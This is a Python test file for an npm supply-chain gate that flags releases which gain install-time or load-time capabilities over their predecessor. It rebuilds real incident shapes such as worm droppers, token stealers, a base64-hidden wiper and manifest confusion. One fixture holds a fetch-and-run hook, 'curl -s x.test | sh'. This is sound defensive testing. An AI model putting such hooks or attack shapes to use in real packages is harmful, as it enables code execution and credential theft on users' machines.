"""What a release's code can do, judged (`rules.capabilities`): against the release before it,
a capability gained is held and a change within the same capabilities passes; with nothing to
compare with, what the code can do at install and at load. On real releases' files
(tests/npm/fixtures/releases) and the incident shapes rebuilt on real predecessors."""

from __future__ import annotations

from datetime import UTC, datetime, timedelta

import pytest

from mirrorgate.npm.capabilities import release_capabilities
from mirrorgate.npm.contents import Contents, contents_of
from mirrorgate.rules import parse_rules
from mirrorgate.rules.capabilities import check_alone, check_gained, verdict
from mirrorgate.rules.release import Fired, Release, judge
from mirrorgate.rules.releasetable import NEW_CAPABILITY, YOUNG_PACKAGE_CAPABILITY
from tests.npm.test_capabilities import real, with_manifest
from tests.servers.packages import build_tarball
from tests.servers.payloads import (
    flatmap_payload,
    interceptor,
    own_walk,
    protest_writer,
    stealer,
    webhook_stealer,
    wiper,
    worm_bundle,
    worm_dropper,
)

# --- good updates that text-level signals refused: the same capabilities -------------------


@pytest.mark.parametrize(("before", "after"), [
    ("bcrypt-5.1.1", "bcrypt-6.0.0"),  # the install command renamed
    ("pre-commit-1.2.2", "pre-commit-2.0.0"),  # the same command over a rewritten install.js
    ("phantomjs-2.1.3", "phantomjs-2.1.7"),
    ("yorkie-1.0.3", "yorkie-2.0.0"),
])
def test_a_real_update_whose_install_code_gains_nothing_passes(before: str, after: str) -> None:
    old, new = release_capabilities(real(before)), release_capabilities(real(after))

    assert new.at_install  # each runs code at install that can do something
    assert verdict(new, old) == []


def test_a_real_release_compared_with_itself_passes() -> None:
    read = release_capabilities(real("esbuild-0.24.0"))

    assert verdict(read, read) == []


# --- the incidents, rebuilt on real predecessors ---------------------------------------------


def shai_hulud_1() -> dict[str, bytes]:
    """chalk 5.6.0 plus a new `postinstall` running a worm bundle."""
    return with_manifest({**real("chalk-5.6.0"), "bundle.js": worm_bundle()},
                         scripts={"postinstall": "node bundle.js"})


def shai_hulud_2() -> dict[str, bytes]:
    """chalk 5.6.0 plus a new `preinstall` fetching a runtime and spawning it."""
    return with_manifest({**real("chalk-5.6.0"), "setup_bun.js": worm_dropper()},
                         scripts={"preinstall": "node setup_bun.js"})


def appended(release: str, file: str, payload: bytes) -> dict[str, bytes]:
    files = real(release)
    files[file] += payload
    return files


@pytest.mark.parametrize(("shape", "predecessor", "gains"), [
    (shai_hulud_1, "chalk-5.6.0", ("install-time code gains environment",
                                   "install-time code gains network",
                                   "install-time code gains processes")),
    (shai_hulud_2, "chalk-5.6.0", ("install-time code gains network",
                                   "install-time code gains processes")),
    (lambda: appended("debug-4.4.1", "src/index.js", interceptor("debug")), "debug-4.4.1",
     ("load-time code gains intercepts-globals", "load-time code gains obfuscated")),
    (lambda: appended("debug-4.4.1", "src/node.js", stealer()), "debug-4.4.1",
     ("load-time code gains, together, network",)),
    (lambda: appended("debug-4.4.1", "src/index.js", flatmap_payload()), "debug-4.4.1",
     ("load-time code gains decoded-code",)),
    (lambda: appended("chalk-5.6.0", "source/index.js", stealer()), "chalk-5.6.0",
     ("load-time code gains, together, network",
      "load-time code gains, together, credentials-files",
      "load-time code gains, together, environment")),
], ids=["shai-hulud-1", "shai-hulud-2", "chalk-debug", "token-stealer", "flatmap-stream",
        "payload-in-main"])
def test_an_incident_shape_gains_a_capability_and_is_held(
        shape: object, predecessor: str, gains: tuple[str, ...]) -> None:
    assert callable(shape)
    new = release_capabilities(shape())

    found = verdict(new, release_capabilities(real(predecessor)))

    for gain in gains:
        assert any(item.startswith(gain) for item in found), (gain, found)


def required_from_the_entry(release: str, entry: str, file: str, code: bytes) -> dict[str, bytes]:
    """`release` with `file` added and imported by its (ES module) entry file, as node-ipc
    10.1.1's `dao/ssl-geospec.js` was by its entry."""
    files = real(release)
    files[entry] += f"\nimport './{file.rsplit('/', 1)[-1]}';\n".encode()
    return {**files, file: code}


def test_node_ipc_gains_writes_outside_at_load_and_is_held() -> None:
    # node-ipc 10.1.1 (March 2022): its entry imports a new file that overwrites every file
    # under `./`, `../`, `../../` and `/`, each path hidden in base64
    old = release_capabilities(real("chalk-5.6.0"))
    new = release_capabilities(required_from_the_entry(
        "chalk-5.6.0", "source/index.js", "source/ssl-geospec.js", wiper()))

    found = verdict(new, old)

    assert any(item.startswith("load-time code gains writes-home")
               and "source/ssl-geospec.js:" in item for item in found), found
    assert any(item.startswith("load-time code gains writes-outside") for item in found)


def test_a_new_file_that_writes_inside_the_package_at_load_gains_nothing() -> None:
    old = release_capabilities(real("chalk-5.6.0"))
    new = release_capabilities(required_from_the_entry(
        "chalk-5.6.0", "source/index.js", "source/cache.js", own_walk()))

    assert verdict(new, old) == []


def test_the_evidence_names_the_file_line_and_call_and_the_predecessors_capabilities() -> None:
    files = appended("debug-4.4.1", "src/node.js", stealer())
    new = Release("4.4.2", contents_of(build_tarball(files)))
    old = Release("4.4.1", contents_of(build_tarball(real("debug-4.4.1"))))

    fired = check_gained(new, old)

    assert fired is not None
    assert fired.signal == NEW_CAPABILITY
    assert "src/node.js:" in fired.evidence
    assert "require('https')" in fired.evidence
    assert fired.details[-1] == "4.4.1 could use at install: nothing; at load: environment"


def test_a_hook_only_the_registry_manifest_declares_counts() -> None:
    # manifest confusion: the tarball's package.json runs nothing, the registry's runs a file
    files = {**real("chalk-5.6.0"), "bundle.js": worm_bundle()}
    old = Release("5.6.0", contents_of(build_tarball(real("chalk-5.6.0"))))
    new = Release("5.6.1", contents_of(build_tarball(files)),
                  commands={"postinstall": "node bundle.js"})

    fired = check_gained(new, old)

    assert fired is not None
    assert "bundle.js" in fired.evidence


# --- with nothing to compare with -----------------------------------------------------------


def test_a_first_release_whose_install_reaches_the_network_is_held() -> None:
    new = Release("1.0.0", contents_of(build_tarball(real("esbuild-0.24.0"))))

    fired = check_alone(new, "1.0.0 is the package's first release")

    assert fired is not None
    assert fired.signal == YOUNG_PACKAGE_CAPABILITY
    assert fired.evidence.startswith("1.0.0 is the package's first release, and its code")
    assert "install-time code can use network" in fired.evidence


def test_a_first_release_whose_main_sends_the_environment_is_held() -> None:
    read = release_capabilities(appended("chalk-5.6.0", "source/index.js", stealer()))

    assert any(item.startswith("load-time code can use, together, network")
               for item in verdict(read, None))


def test_a_first_release_whose_main_posts_browser_tokens_through_a_webhook_is_held() -> None:
    # an0n-chat-lib 0.1.0 (October 2020): nothing at install; its main reads the Discord
    # tokens in the browsers' Local Storage and posts them with discord.js's WebhookClient
    read = release_capabilities({"package.json": b'{"name": "x", "main": "build/stealer.js"}',
                                 "build/stealer.js": webhook_stealer()})

    found = verdict(read, None)

    assert any(item.startswith("load-time code can use, together, network")
               and 'require("discord.js")' in item for item in found), found
    assert any(item.startswith("load-time code can use, together, credentials-files")
               for item in found)


def test_a_first_release_of_a_chat_bot_that_reads_nothing_outside_passes() -> None:
    bot = (b"const { Client } = require('discord.js');\n"
           b"const client = new Client({ intents: [] });\n"
           b"client.on('messageCreate', (m) => m.content === '!ping' && m.reply('pong'));\n"
           b"module.exports = (token) => client.login(token);\n")
    read = release_capabilities({"package.json": b'{"name": "x"}', "index.js": bot})

    assert "network" in read.at_load
    assert verdict(read, None) == []


def test_a_first_release_whose_main_writes_into_the_desktop_is_held() -> None:
    # peacenotwar 9.1.1 (March 2022): a first release whose module writes into the home
    # folder's Desktop and OneDrive at load
    read = release_capabilities({"package.json": b'{"name": "x", "type": "module"}',
                                 "index.js": protest_writer()})

    found = verdict(read, None)

    assert any(item.startswith("load-time code can use writes-home")
               and "index.js:9" in item for item in found), found


def test_a_first_release_whose_cli_writes_into_the_project_it_runs_in_passes() -> None:
    # what a scaffolder's or a formatter's bin does: it writes where it is run
    cli = (b"#!/usr/bin/env node\nconst fs = require('fs'), path = require('path');\n"
           b"fs.mkdirSync(path.join(process.cwd(), 'src'), { recursive: true });\n"
           b"fs.writeFileSync(path.join(process.cwd(), 'src', 'index.js'), '');\n")
    read = release_capabilities({"package.json": b'{"name": "x", "bin": {"x": "cli.js"}}',
                                 "cli.js": cli})

    assert "writes-outside" in read.at_load
    assert verdict(read, None) == []


def test_a_first_release_whose_install_writes_only_inside_itself_passes() -> None:
    files = with_manifest({**real("chalk-5.6.0"), "build.js":
                           b"require('fs').writeFileSync(__dirname + '/built.txt', 'ok');\n"},
                          scripts={"postinstall": "node build.js"})

    assert verdict(release_capabilities(files), None) == []


def test_a_library_that_reaches_the_network_at_load_alone_passes_as_a_first_release() -> None:
    assert verdict(release_capabilities(real("axios-1.7.9")), None) == []


def test_an_unreadable_tarball_judged_alone_is_held_by_its_manifests_hooks() -> None:
    new = Release("1.0.0", Contents(), commands={"postinstall": "curl -s x.test | sh"},
                  published=datetime(2026, 12, 1, tzinfo=UTC))

    fired = check_alone(new, "1.0.0 is the package's first release")

    assert fired is not None
    assert "curl" in fired.evidence


# --- the way through, as for every rule -----------------------------------------------------


NOW = datetime(2026, 12, 5, 12, 0, tzinfo=UTC)


def gained_fired() -> Fired:
    files = appended("debug-4.4.1", "src/node.js", stealer())
    fired = check_gained(Release("4.4.2", contents_of(build_tarball(files))),
                         Release("4.4.1", contents_of(build_tarball(real("debug-4.4.1")))))
    assert fired is not None
    return fired


def test_by_default_a_gain_is_quarantined_a_week_after_publication() -> None:
    verdict = judge(parse_rules("", "r.toml"), "debug", "4.4.2", NOW, [gained_fired()], NOW,
                    "4.4.1")

    assert (verdict.rule, verdict.until) == (NEW_CAPABILITY, NOW + timedelta(days=7))
    assert 'add "debug@4.4.2" (or "debug") to release.allow' in (verdict.reason or "")


@pytest.mark.parametrize("rules", [
    '[release]\nmode = "report"\n',
    '[release]\nallow = ["debug@4.4.2"]\n',
    '[release]\nnew_capability = "off"\n',
    '[[exception]]\npackage = "debug@4.4.2"\nuntil = 2027-01-31\nreason = "reviewed"\n'
    'by = "ops"\nrules = ["new-capability"]\n',
], ids=["report-mode", "allow", "off", "exception"])
def test_report_mode_an_allow_entry_an_exception_or_off_let_a_gain_through(rules: str) -> None:
    verdict = judge(parse_rules(rules, "r.toml"), "debug", "4.4.2", NOW, [gained_fired()], NOW,
                    "4.4.1")

    assert not verdict.denied


def test_a_tarball_that_cannot_be_read_is_unread_not_clean() -> None:
    old = Release("1.0.0", contents_of(build_tarball(real("chalk-5.6.0"))))
    new = Release("1.0.1", Contents(problem="a pax header's size is not the entry's ustar size"))

    gained = check_gained(new, old)
    alone = check_alone(new, "1.0.1 has no earlier release whose code vouches for it")

    assert gained is not None
    assert "install-time code gains unread" in gained.evidence
    assert alone is not None
    assert "pax header" in alone.evidence


# --- what issue 53 added to the young-package signal, under the capability signals -----------


@pytest.mark.parametrize(("key", "spec"), [
    ("helper", "github:someone/helper"),  # npm clones it and runs its `prepare`
    ("helper", "https://files.example.test/helper-1.0.0.tgz"),  # its hooks run
    ("helper", "file:../helper"),
], ids=["git", "url", "path"])
def test_a_first_release_whose_dependency_npm_fetches_from_outside_is_held(
    key: str, spec: str,
) -> None:
    # no hook of its own: the code npm runs at install comes from where no gate reads it
    tarball = build_tarball(real("chalk-5.6.0"))
    control = Release("1.0.0", contents_of(tarball))
    attack = Release("1.0.0", contents_of(tarball), dependencies={key: spec})

    assert check_alone(control, "1.0.0 is the package's first release") is None
    fired = check_alone(attack, "1.0.0 is the package's first release")
    assert fired is not None
    assert "install-time code can use unread" in fired.evidence
    assert "whose code npm runs at install" in fired.evidence


def test_a_dependency_from_outside_the_tarballs_package_json_alone_declares_counts() -> None:
    files = with_manifest(real("chalk-5.6.0"), dependencies={"helper": "github:someone/helper"})

    fired = check_alone(Release("1.0.0", contents_of(build_tarball(files))), "a first release")

    assert fired is not None
    assert "github" in fired.evidence


def test_an_established_package_gaining_a_git_dependency_gains_unread_code_at_install() -> None:
    tarball = build_tarball(real("chalk-5.6.0"))
    old = Release("5.6.0", contents_of(tarball))
    new = Release("5.6.1", contents_of(tarball), dependencies={"helper": "github:someone/helper"})

    gained = check_gained(new, old)

    assert gained is not None
    assert "install-time code gains unread" in gained.evidence
    # one it already had gains nothing
    assert check_gained(new, Release("5.6.0", contents_of(tarball),
                                     dependencies={"helper": "github:someone/helper"})) is None
